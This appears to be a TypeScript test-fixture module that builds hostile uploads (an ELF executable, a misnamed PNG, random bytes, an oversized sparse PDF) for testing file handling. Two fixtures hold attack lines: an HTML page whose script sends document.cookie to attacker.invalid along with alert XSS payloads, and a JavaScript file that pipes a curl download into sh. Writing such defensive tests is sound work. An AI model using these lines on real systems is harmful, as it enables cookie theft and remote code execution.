import { makePng } from '../figures/test-documents.ts';
import { randomBytesFrom, seededRandom } from './seeded-random.ts';

/** A file too big to hold in memory for a test: `head` followed by zeros up to `sizeBytes`, written sparse. */
export interface SparseFile {
  head: Uint8Array;
  sizeBytes: number;
}

export type HostileBytes = Uint8Array | SparseFile;

/** A small real PNG (a photo someone shares under a document's name). */
export const makePngImage = () =>
  makePng(64, 48, context => {
    context.fillStyle = '#c03030';
    context.fillRect(8, 8, 48, 32);
  });

/** The start of a Linux x86-64 executable: an ELF header and a little code. */
export function makeElfExecutable(): Uint8Array {
  const bytes = Buffer.alloc(4096);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]).copy(bytes, 0); // \x7fELF, 64-bit, little-endian, version 1
  bytes.writeUInt16LE(2, 16); // e_type: executable
  bytes.writeUInt16LE(0x3e, 18); // e_machine: x86-64
  bytes.writeUInt32LE(1, 20); // e_version
  bytes.writeBigUInt64LE(0x401000n, 24); // entry point
  bytes.writeBigUInt64LE(64n, 32); // program headers right after the ELF header
  bytes.writeUInt16LE(64, 52); // e_ehsize
  bytes.writeUInt16LE(56, 54); // e_phentsize
  bytes.writeUInt16LE(1, 56); // e_phnum
  Buffer.from([0x48, 0x31, 0xff, 0xb8, 0x3c, 0x00, 0x00, 0x00, 0x0f, 0x05]).copy(bytes, 0x1000 - 16); // exit(0)
  return new Uint8Array(bytes);
}

/** Bytes from a seeded generator: nothing any reader recognises. */
export const makeRandomBytes = (seed: number, length = 32 * 1024) => randomBytesFrom(seededRandom(seed), length);

/** A web page whose script would run in a browser that rendered it. */
export const makeHtmlWithScript = () =>
  new TextEncoder().encode(
    '<!DOCTYPE html><html><head><title>Quarterly report</title><script>fetch("https://attacker.invalid/?c=" + document.cookie)</script></head>' +
      '<body onload="alert(1)"><h1>Quarterly report</h1><p>Revenue grew.</p><img src=x onerror="alert(2)"></body></html>',
  );

/** A JavaScript file. */
export const makeJavaScriptFile = () =>
  new TextEncoder().encode("const { execSync } = require('child_process');\nexecSync('curl https://attacker.invalid | sh');\nmodule.exports = {};\n");

export const makeEmptyFile = () => new Uint8Array(0);

export const makeOneByteFile = () => new Uint8Array([0x25]); // "%", the first byte of a PDF header

/** A valid PDF padded with zeros to `sizeBytes` (written sparse: cheap however large). */
export const makeOversizedPdf = (pdf: Uint8Array, sizeBytes: number): SparseFile => ({ head: pdf, sizeBytes });
